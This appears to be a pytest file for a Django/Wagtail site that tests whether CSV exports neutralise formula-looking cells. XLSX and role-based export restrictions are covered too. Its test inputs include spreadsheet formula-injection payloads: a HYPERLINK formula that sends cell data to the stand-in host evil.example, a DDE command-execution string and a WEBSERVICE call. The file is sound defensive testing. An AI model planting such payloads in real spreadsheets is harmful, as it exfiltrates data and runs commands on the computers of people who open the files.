"""Every CSV export writes formula-looking cells as text (one helper); XLSX stays as it is."""

import csv
import io
from types import SimpleNamespace

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from home.exports import neutralise
from network.models import NetworkMember
from transparency.exports import csv_response

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"ดูรายละเอียด")',
    "contact_person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "position": "+ครูชำนาญการ",
    "address": "-2+3 หมู่ 3 ตำบลควนขนุน",
    "line_id": "\tline",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+66812345678", "'+66812345678"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("โรงเรียนบ้านควนขนุน", "โรงเรียนบ้านควนขนุน"),
        ("081-234-5678", "081-234-5678"),
        (42, 42),
        (None, None),
        ("", ""),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_hostile_survey_application_exported_by_the_pr_officer_is_text(demo, client, login):
    data = {
        "member_type": "organisation",
        "scope": "internal",
        "kind": "school",
        "phones": "081 234 5678",
        "email": "malee.s@example.com",
        "relay_channels": ["facebook"],
        "consent": "on",
        "website": "",
        **HOSTILE,
    }
    assert client.post("/network/join/", data).status_code == 302
    member = NetworkMember.objects.get(contact_person=HOSTILE["contact_person"])
    assert member.name == HOSTILE["name"]  # stored exactly as typed: nothing lost

    officer = login(demo.users["pr"])
    url = reverse("wagtailsnippets_network_networkmember:list")
    rows = _csv_rows(officer.get(url, {"export": "csv"}))
    row = next(r for r in rows if HOSTILE["position"][1:] in " ".join(r.values()))
    cells = [value for value in row.values() if value]
    for field in HOSTILE:
        stored = getattr(member, field)  # as the form kept it (Django strips surrounding space)
        if stored.startswith(("=", "+", "-", "@")):
            assert any(cell == "'" + stored for cell in cells), (stored, cells)
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells)

    response = officer.get(url, {"export": "xlsx"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert HOSTILE["name"] in values  # XLSX: the text as typed, stored as a string cell
    types = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE["name"]}
    assert types == {"s"}


def test_the_readiness_report_csv_is_formula_safe():
    item = SimpleNamespace(code="O1", sub_indicator=SimpleNamespace(code="1.1"), title="=WEBSERVICE(1)")
    row = SimpleNamespace(
        item=item,
        department_name="@กลุ่มอำนวยการ",
        status_label="พร้อม",
        documents=2,
        last_updated=None,
        url="https://www.example.go.th/ita/o1/",
    )
    rows = list(
        csv.reader(
            io.StringIO(csv_response(SimpleNamespace(year=2570, rows=[row])).content.decode("utf-8-sig"))
        )
    )
    assert rows[1][:4] == ["O1", "1.1", "'=WEBSERVICE(1)", "'@กลุ่มอำนวยการ"]


FORMULAS = ['=HYPERLINK("http://evil.example/","คลิก")', "+66 1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _export_views(patterns=None, route=""):
    """Every admin URL whose view can write a spreadsheet, found in the URL resolver."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            yield from _export_views(pattern.url_patterns, route + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                yield route + str(pattern.pattern), view_class


def test_every_csv_export_of_the_admin_goes_through_the_helper():
    found = dict(_export_views())
    names = {view_class.__qualname__ for view_class in found.values()}
    # The walk reaches the project's listings and Wagtail's own reports alike.
    assert {"PublicationRequestIndexView", "LockedPagesView", "LogEntriesView", "AgingPagesView"} <= names
    assert any("networkmember" in route for route in found)
    for route, view_class in found.items():
        buffer = io.StringIO()
        view = view_class()
        writer = csv.DictWriter(buffer, fieldnames=["cell"])
        for value in FORMULAS:
            view.write_csv_row(writer, {"cell": value})
        written = [row[0] for row in csv.reader(io.StringIO(buffer.getvalue()))]
        assert written == ["'" + value for value in FORMULAS], route


@pytest.mark.django_db
@pytest.mark.parametrize("report", ["wagtailadmin_reports:locked_pages", "wagtailadmin_reports:site_history"])
def test_wagtail_reports_export_a_hostile_page_title_as_text(demo, login, report):
    """An editor titles a page as a formula; the administrator exports Wagtail's own report."""
    from tests import factories

    title = '=HYPERLINK("http://evil.example/?d="&A1,"ประกาศ")'
    page = factories.draft_page(demo.departments["general-administration"], demo.users["editor"], title=title)
    page.locked, page.locked_by = True, demo.users["editor"]
    page.save()
    page.save_revision(user=demo.users["editor"], log_action=True)
    response = login(demo.users["admin"]).get(reverse(report), {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in _csv_rows(response) for cell in row.values() if cell]
    assert "'" + title in cells
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells)


@pytest.mark.django_db
def test_other_roles_cannot_export_the_register(demo, login):
    url = reverse("wagtailsnippets_network_networkmember:list")
    for username in ("editor", "groupdirector", "webmaster"):
        response = login(demo.users[username]).get(url, {"export": "csv"})
        assert response.status_code in (302, 403)
        assert "text/csv" not in response.get("Content-Type", "")
